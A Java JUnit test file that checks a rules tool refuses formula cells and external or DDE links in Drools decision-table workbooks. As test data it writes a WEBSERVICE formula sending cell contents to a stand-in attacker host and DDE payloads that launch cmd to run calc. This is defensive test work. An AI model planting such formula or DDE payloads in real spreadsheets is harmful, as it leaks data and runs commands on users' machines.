package dev.srm.hardening;

import static dev.srm.hardening.RuleFolderLinksTest.assertRefused;
import static dev.srm.hardening.RuleFolderLinksTest.check;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A decision table holds plain values. Drools reads a formula cell as its cached value or its text — silently — and a
 * formula can call out (WEBSERVICE, DDE): every formula cell is refused with its address, and so is a workbook linked
 * to another workbook or program. The tables are written with POI, as a spreadsheet program would write them.
 */
class RuleTableFormulasTest {

    @TempDir
    Path temp;

    Path rules;

    @BeforeEach
    void folder() throws IOException {
        rules = Files.createDirectories(temp.resolve("rules"));
    }

    /** The sample's decision table, in a workbook of our own, with {@code formulas} (address → formula) set on Sheet1. */
    private Path table(String name, Map<String, String> formulas) throws IOException {
        Path file = rules.resolve(name);
        try (XSSFWorkbook book = new XSSFWorkbook()) {
            Sheet sheet = book.createSheet("Sheet1");
            String[][] rows = {
                {"RuleSet", "acme.rules.formulas"},
                {"Import", "dev.srm.model.*, dev.srm.responsibility.*"},
                {"Variables", "dev.srm.responsibility.Conclusions srm"},
                {},
                {"RuleTable Formulas"},
                {"NAME", "CONDITION", "ACTION"},
                {"", "$c : Component", ""},
                {"", "serviceId == \"$param\"", "srm.customer($c, \"encryption-at-rest\", \"\", \"\", \"$param\");"},
                {"Rule", "service", "rationale"},
                {"acme/sqs", "sqs", "policy"},
            };
            for (int r = 0; r < rows.length; r++) {
                Row row = sheet.createRow(r);
                for (int c = 0; c < rows[r].length; c++) row.createCell(c).setCellValue(rows[r][c]);
            }
            for (Map.Entry<String, String> f : formulas.entrySet()) {
                var ref = new org.apache.poi.ss.util.CellReference(f.getKey());
                Row row = sheet.getRow(ref.getRow()) == null ? sheet.createRow(ref.getRow()) : sheet.getRow(ref.getRow());
                row.createCell(ref.getCol()).setCellFormula(f.getValue());
            }
            try (var out = Files.newOutputStream(file)) {
                book.write(out);
            }
        }
        return file;
    }

    @Test
    void aTableOfPlainValuesCompiles() throws IOException {
        table("plain.xlsx", Map.of());
        Cli run = check(rules);
        assertThat(run.exitCode()).as(run.err()).isZero();
        assertThat(run.out()).contains("acme/sqs");
    }

    @Test
    void everyFormulaCellIsRefusedWithItsAddress() throws IOException {
        Path file = table("tables.xlsx", new java.util.TreeMap<>(Map.of(
                "C10", "CONCATENATE(\"po\",\"licy\")",
                "B10", "B10",                      // a circular reference
                "D12", "HYPERLINK(\"http://example.com\",\"x\")")));
        assertRefused(check(rules),
                file + "!Sheet1!B10: a formula (=B10) — decision tables take plain values; type the value itself",
                file + "!Sheet1!C10: a formula (=CONCATENATE(\"po\",\"licy\")) — decision tables take plain values; type the value itself",
                file + "!Sheet1!D12: a formula (=HYPERLINK(\"http://example.com\",\"x\")) — decision tables take plain values; type the "
                        + "value itself");
    }

    @Test
    void webServiceAndDdeFormulasAreRefused() throws IOException {
        // POI's formula parser knows neither: write placeholders, then put the formulas Excel would store in the sheet XML.
        Path file = table("calls.xlsx", new java.util.TreeMap<>(Map.of("C10", "1+1", "C11", "2+2")));
        rewrite(file, Map.of("xl/worksheets/sheet1.xml", xml -> xml
                .replace("<f>1+1</f>", "<f>WEBSERVICE(\"http://attacker.example/?q=\"&amp;A1)</f>")
                .replace("<f>2+2</f>", "<f>cmd|' /c calc'!A0</f>")));
        assertRefused(check(rules),
                // a long formula is cut to 40 characters
                file + "!Sheet1!C10: a formula (=WEBSERVICE(\"http://attacker.example/?q=\"…) — decision tables take plain values; "
                        + "type the value itself",
                file + "!Sheet1!C11: a formula (=cmd|' /c calc'!A0) — decision tables take plain values; type the value itself");
    }

    @Test
    void aSharedFormulaIsRefusedInEveryCell() throws IOException {
        Path file = table("shared.xlsx", new java.util.TreeMap<>(Map.of("E1", "1+1", "E2", "2+2")));
        rewrite(file, Map.of("xl/worksheets/sheet1.xml", xml -> xml
                .replace("<f>1+1</f>", "<f t=\"shared\" ref=\"E1:E2\" si=\"0\">A1&amp;\"x\"</f>")
                .replace("<f>2+2</f>", "<f t=\"shared\" si=\"0\"/>")));
        assertRefused(check(rules),
                file + "!Sheet1!E1: a formula (=A1&\"x\") — decision tables take plain values; type the value itself",
                file + "!Sheet1!E2: a formula (=A1&\"x\") — decision tables take plain values; type the value itself");
    }

    @Test
    void aWorkbookLinkedToAnotherWorkbookIsRefused() throws IOException {
        Path file = table("linked.xlsx", Map.of());
        Map<String, String> extra = Map.of(
                "xl/externalLinks/externalLink1.xml", "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
                        + "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><externalBook r:id=\"rId1\"/>"
                        + "</externalLink>",
                "xl/externalLinks/_rels/externalLink1.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/"
                        + "relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                        + "relationships/externalLinkPath\" Target=\"file:///C:/prices.xlsx\" TargetMode=\"External\"/></Relationships>");
        add(file, extra);
        assertRefused(check(rules), file + ": links to data outside the workbook (xl/externalLinks/externalLink1.xml → "
                + "file:///C:/prices.xlsx) — decision tables take plain values; remove the link (Excel: Data > Edit Links > Break "
                + "Link) and type the values");
    }

    @Test
    void aDdeLinkIsRefused() throws IOException {
        Path file = table("dde.xlsx", Map.of());
        add(file, Map.of("xl/externalLinks/externalLink1.xml", "<externalLink xmlns=\"http://schemas.openxmlformats.org/"
                + "spreadsheetml/2006/main\"><ddeLink ddeService=\"cmd\" ddeTopic=\" /c calc\"/></externalLink>"));
        assertRefused(check(rules), file + ": links to data outside the workbook (xl/externalLinks/externalLink1.xml → DDE "
                + "cmd| /c calc) — decision tables take plain values; remove the link (Excel: Data > Edit Links > Break Link) and "
                + "type the values");
    }

    @Test
    void anOldXlsOrOtherFileNamedXlsxIsRefused() throws IOException {
        Path file = Files.writeString(rules.resolve("old.xlsx"), "not a workbook at all");
        assertRefused(check(rules), file + ": is not an .xlsx workbook (an old .xls, or not a spreadsheet at all) — save it as an "
                + "Excel workbook (.xlsx)");
    }

    private static void rewrite(Path file, Map<String, java.util.function.UnaryOperator<String>> changes) throws IOException {
        copy(file, changes, Map.of());
    }

    private static void add(Path file, Map<String, String> parts) throws IOException {
        copy(file, Map.of(), parts);
    }

    private static void copy(Path file, Map<String, java.util.function.UnaryOperator<String>> changes, Map<String, String> added)
            throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (InputStream in = Files.newInputStream(file); ZipInputStream zin = new ZipInputStream(in);
                ZipOutputStream zout = new ZipOutputStream(bytes)) {
            for (ZipEntry e; (e = zin.getNextEntry()) != null; ) {
                byte[] content = zin.readAllBytes();
                var change = changes.get(e.getName());
                if (change != null) {
                    String before = new String(content, StandardCharsets.UTF_8);
                    String after = change.apply(before);
                    assertThat(after).as("the placeholder in %s", e.getName()).isNotEqualTo(before);
                    content = after.getBytes(StandardCharsets.UTF_8);
                }
                zout.putNextEntry(new ZipEntry(e.getName()));
                zout.write(content);
                zout.closeEntry();
            }
            for (Map.Entry<String, String> part : added.entrySet()) {
                zout.putNextEntry(new ZipEntry(part.getKey()));
                zout.write(part.getValue().getBytes(StandardCharsets.UTF_8));
                zout.closeEntry();
            }
        }
        Files.write(file, bytes.toByteArray());
    }
}
